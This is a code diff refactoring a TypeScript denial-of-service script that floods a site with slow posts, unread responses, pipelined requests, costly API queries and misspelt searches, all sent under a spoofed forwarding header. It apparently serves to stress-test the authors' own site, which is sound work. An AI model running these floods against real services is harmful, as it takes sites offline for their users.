@@ -1,12 +1,10 @@
 import { randomInt } from 'node:crypto';
 import { once } from 'node:events';
-import { Agent, request as httpRequest } from 'node:http';
-import type { IncomingMessage, OutgoingHttpHeaders } from 'node:http';
 import { connect } from 'node:net';
 import type { Socket } from 'node:net';
 import { setTimeout as pause } from 'node:timers/promises';
 
-// What one address may try to take a site from all others. This file also is the attacker's process:
+// What one address may try to take a site from all others. This file is also the attacker's process:
 // `node attacks.ts <site's url> <public key> <name of the attack>`, until it is killed.
 
 /** Everything an attacker sends comes from here, where the site trusts the proxy that says so. */
@@ -17,62 +15,58 @@ interface Target {
   key: string;
 }
 
-/** Does the same over and over, on so many lines at once. */
-function onLines(count: number, attempt: (target: Target) => Promise<unknown>) {
-  return async (target: Target) => {
-    const line = async () => {
-      for (;;) {
-        await attempt(target).catch(() => undefined);
-        // Refused at once, it would keep its own process busy and nobody else's.
-        await pause(2);
-      }
-    };
-    await Promise.all(Array.from({ length: count }, line));
-  };
-}
-
-const agent = new Agent({ keepAlive: true, maxSockets: Number.POSITIVE_INFINITY });
-
-interface Asked {
+interface Sent {
   path: string;
   method?: string;
-  headers?: OutgoingHttpHeaders;
+  headers?: Record<string, string>;
   body?: string;
 }
 
-function ask({ url, key }: Target, { path, method = 'GET', headers = {}, body }: Asked) {
-  return new Promise<IncomingMessage>((resolve, reject) => {
-    const sent = httpRequest(
-      {
-        agent,
-        hostname: url.hostname,
-        port: url.port,
-        method,
-        path,
-        headers: {
-          'x-forwarded-for': address,
-          ...(path.startsWith('/rest/') && { apikey: key }),
-          ...headers,
-        },
-      },
-      resolve,
-    );
-    sent.on('error', reject);
-    sent.end(body);
+/** Does the same over and over, on so many connections at once. */
+function repeat(connections: number, attempt: (target: Target) => Promise<unknown>) {
+  return async (target: Target) => {
+    const connection = async () => {
+      for (;;) {
+        await attempt(target).catch(() => undefined);
+        // Refused at once, it would keep only its own process busy.
+        await pause(2);
+      }
+    };
+    await Promise.all(Array.from({ length: connections }, connection));
+  };
+}
+
+const headersOf = ({ key }: Target, { headers }: Sent) => ({
+  'x-forwarded-for': address,
+  apikey: key,
+  ...headers,
+});
+
+/** Sends such requests and reads what is answered. */
+const flood = (connections: number, next: () => Sent) =>
+  repeat(connections, async (target) => {
+    const { path, ...init } = next();
+    const headers = headersOf(target, { path, ...init });
+    const answer = await fetch(target.url.origin + path, { ...init, headers });
+    await answer.arrayBuffer();
   });
+
+/** A request as it is written on a connection. */
+function requestText(target: Target, sent: Sent): string {
+  const headers = { host: target.url.host, ...headersOf(target, sent) };
+  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
+  return `${sent.method ?? 'GET'} ${sent.path} HTTP/1.1\r\n${lines.join('')}\r\n`;
 }
 
-async function askAndRead(target: Target, asked: Asked): Promise<void> {
-  const answer = await ask(target, asked);
-  answer.resume();
-  await once(answer, 'end');
-}
-
-/** Asks, and leaves after so many ms whatever has come. */
-async function askAndLeave(target: Target, asked: Asked, afterMs: number): Promise<void> {
+/** Writes so often on a connection that is not read, and leaves. */
+async function writeAndLeave(
+  target: Target,
+  sent: Sent,
+  { times = 1, afterMs }: { times?: number; afterMs: number },
+): Promise<void> {
   const socket = await open(target);
-  socket.write(`${requestText(target, asked)}\r\n`);
-  await pause(afterMs);
+  socket.write(requestText(target, sent).repeat(times));
+  await Promise.race([once(socket, 'close'), pause(afterMs)]);
   socket.destroy();
 }
 
@@ -81,12 +75,6 @@ async function open({ url }: Target): Promise<Socket> {
   socket.on('error', () => {});
   await once(socket, 'connect');
   return socket;
-}
-
-function requestText({ url, key }: Target, { path, method = 'GET', headers = {} }: Asked): string {
-  const all = { host: url.host, 'x-forwarded-for': address, apikey: key, ...headers };
-  const lines = Object.entries(all).map(([name, value]) => `${name}: ${String(value)}\r\n`);
-  return `${method} ${path} HTTP/1.1\r\n${lines.join('')}`;
 }
 
 const any = () => randomInt(1_000_000_000);
@@ -109,80 +97,59 @@ const letters = (count: number) =>
   Array.from({ length: count }, () => String.fromCharCode('a'.charCodeAt(0) + randomInt(26))).join(
     '',
   );
-const searchForEight = (target: Target) =>
-  askAndRead(target, {
-    path: `/search?q=${Array.from({ length: 8 }, () => letters(9)).join('+')}`,
-  });
+const eightWords = () => ({
+  path: `/search?q=${Array.from({ length: 8 }, () => letters(9)).join('+')}`,
+});
 /** It begins and ends as many names in titles do. */
 const misspelt = () => `kar${letters(3)}pur`;
 /** Words that articles have, and two that are compared with those of titles. */
-const searchForTwo = (target: Target) =>
-  askAndRead(target, { path: `/search?q=${misspelt()}+the+note+${misspelt()}+answer` });
+const twoMisspelt = () => ({ path: `/search?q=${misspelt()}+the+note+${misspelt()}+answer` });
+
+const rows = [
+  {
+    headers: json,
+    body: JSON.stringify(Array.from({ length: 500 }, () => ({ message: 'x' }))),
+  },
+  { headers: { 'content-type': 'text/csv' }, body: `message\r${'x\r'.repeat(20_000)}` },
+];
+const either = <Item>(items: readonly Item[]): Item => items[any() % items.length] as Item;
 
 /** By name; each goes on until its process ends. */
 export const attacks: Record<string, (target: Target) => Promise<void>> = {
-  'costly questions to the API': onLines(50, (target) =>
-    askAndRead(target, { path: (costly[any() % costly.length] ?? costly[0])?.() ?? table }),
-  ),
-  'rows in heaps through the API': onLines(16, (target) =>
-    askAndRead(target, {
-      path: messages,
-      method: 'POST',
-      headers: any() % 2 === 0 ? json : { 'content-type': 'text/csv' },
-      body:
-        any() % 2 === 0
-          ? JSON.stringify(Array.from({ length: 500 }, () => ({ message: 'x' })))
-          : `message\r${'x\r'.repeat(20_000)}`,
-    }),
-  ),
-  'categories that do not exist': onLines(100, (target) =>
-    askAndRead(target, {
-      path: any() % 2 === 0 ? `/?category=${any()}` : `/online-mode?category=${any()}`,
-    }),
-  ),
-  'articles and courses that do not exist': onLines(100, (target) =>
-    askAndRead(target, { path: any() % 2 === 0 ? `/article/${any()}` : `/course-${any()}` }),
-  ),
-  'questions whose sender has left': onLines(100, (target) =>
-    askAndLeave(
-      target,
-      {
-        path:
-          any() % 2 === 0
-            ? `/article/${any()}`
-            : `${table}?select=*&limit=1000&order=id&offset=${any() % 4_000}`,
-        headers: { 'content-length': 0 },
-      },
-      30,
-    ),
-  ),
-  'downloads that are broken off': onLines(50, (target) =>
-    askAndLeave(target, { path: '/clips/topper-2.mp4' }, 10),
-  ),
-  'requests without an end on one connection': onLines(4, async (target) => {
-    const socket = await open(target);
-    const many = `${requestText(target, { path: '/' })}\r\n`.repeat(10_000);
-    socket.write(many);
-    await Promise.race([once(socket, 'close'), pause(5_000)]);
-    socket.destroy();
+  'costly questions to the API': flood(50, () => ({ path: either(costly)() })),
+  'rows in heaps through the API': flood(16, () => ({
+    path: messages,
+    method: 'POST',
+    ...either(rows),
+  })),
+  'categories that do not exist': flood(100, () => ({
+    path: either([`/?category=${any()}`, `/online-mode?category=${any()}`]),
+  })),
+  'articles and courses that do not exist': flood(100, () => ({
+    path: either([`/article/${any()}`, `/course-${any()}`]),
+  })),
+  'questions whose sender has left': repeat(100, (target) => {
+    const page = `${table}?select=*&limit=1000&order=id&offset=${any() % 4_000}`;
+    return writeAndLeave(target, { path: either([`/article/${any()}`, page]) }, { afterMs: 30 });
   }),
-  'readers that do not read': onLines(100, async (target) => {
+  'downloads that are broken off': repeat(50, (target) =>
+    writeAndLeave(target, { path: '/clips/topper-2.mp4' }, { afterMs: 10 }),
+  ),
+  'requests without an end on one connection': repeat(4, (target) =>
+    writeAndLeave(target, { path: '/' }, { times: 10_000, afterMs: 5_000 }),
+  ),
+  'readers that do not read': repeat(100, (target) =>
+    writeAndLeave(target, { path: '/editorial-analysis' }, { times: 16, afterMs: 20_000 }),
+  ),
+  'misspelt searches on 16 lines': flood(16, eightWords),
+  'misspelt searches on 32 lines': flood(32, eightWords),
+  'misspelt searches on 200 lines': flood(200, eightWords),
+  'two misspelt words on 200 lines': flood(200, twoMisspelt),
+  'posts that come slowly': repeat(100, async (target) => {
     const socket = await open(target);
-    socket.pause();
-    const asked = { path: '/editorial-analysis', headers: { 'accept-encoding': 'identity' } };
-    socket.write(`${requestText(target, asked)}\r\n`.repeat(16));
-    await Promise.race([once(socket, 'close'), pause(20_000)]);
-    socket.destroy();
-  }),
-  'misspelt searches on 16 lines': onLines(16, searchForEight),
-  'misspelt searches on 32 lines': onLines(32, searchForEight),
-  'misspelt searches on 200 lines': onLines(200, searchForEight),
-  'two misspelt words on 200 lines': onLines(200, searchForTwo),
-  'posts that come slowly': onLines(100, async (target) => {
-    const socket = await open(target);
-    const path = any() % 2 === 0 ? messages : '/contact';
-    const headers = { ...json, 'content-length': 1_000 };
-    socket.write(`${requestText(target, { path, method: 'POST', headers })}\r\n`);
+    const path = either([messages, '/contact']);
+    const headers = { ...json, 'content-length': '1000' };
+    socket.write(requestText(target, { path, method: 'POST', headers }));
     for (let sent = 0; sent < 1_000 && !socket.destroyed; sent += 1) {
       socket.write('x');
       await pause(1_000);
